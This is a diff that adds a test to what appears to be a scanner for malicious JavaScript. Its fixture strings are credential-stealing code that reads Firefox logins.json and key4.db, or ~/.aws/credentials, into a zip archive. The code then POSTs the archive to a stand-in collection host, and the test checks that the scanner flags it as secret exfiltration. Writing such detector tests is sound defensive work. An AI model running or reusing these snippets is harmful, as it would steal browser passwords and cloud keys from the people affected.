@@ -348,3 +348,18 @@ def test_what_is_added_to_a_collection_made_in_place_is_in_what_holds_it():
             "  (found.aws ??= new Set()).add(text); return found; }\n"
             "fetch('https://collect.example/k', { method: 'POST', body: JSON.stringify(harvest()) });\n")
     assert any(f.rule == "code/secret-exfiltration" and f.severity.label == "critical" for f in run({"index.js": code}))
+
+
+def test_a_helper_that_fills_the_archive_it_is_given_fills_the_callers():
+    # The Firefox-profile grabber of the sixth blind set: `addProfile(zip, dir)` reads logins.json and
+    # key4.db into the zip it is handed; the caller sends `zip.toBuffer()` to a webhook.
+    code = ("const fs = require('fs'), path = require('path'); const AdmZip = require('adm-zip');\n"
+            "function addProfile(zip, dir) { for (const f of ['logins.json', 'key4.db']) zip.addFile(f, fs.readFileSync(path.join(dir, f))); }\n"
+            "const zip = new AdmZip(); addProfile(zip, process.argv[2] || '.');\n"
+            "fetch('https://files.collect.example/u', { method: 'POST', body: zip.toBuffer() });\n")
+    assert any(f.rule == "code/secret-exfiltration" and f.severity.label == "critical" for f in run({"index.js": code}))
+    # archiver's `archive.file(path)` reads the file it is given.
+    packed = ("const archiver = require('archiver'); const os = require('os');\n"
+              "const archive = archiver('zip'); archive.file(os.homedir() + '/.aws/credentials', { name: 'c' });\n"
+              "fetch('https://files.collect.example/u', { method: 'POST', body: archive });\n")
+    assert any(f.rule == "code/secret-exfiltration" for f in run({"index.js": packed}))
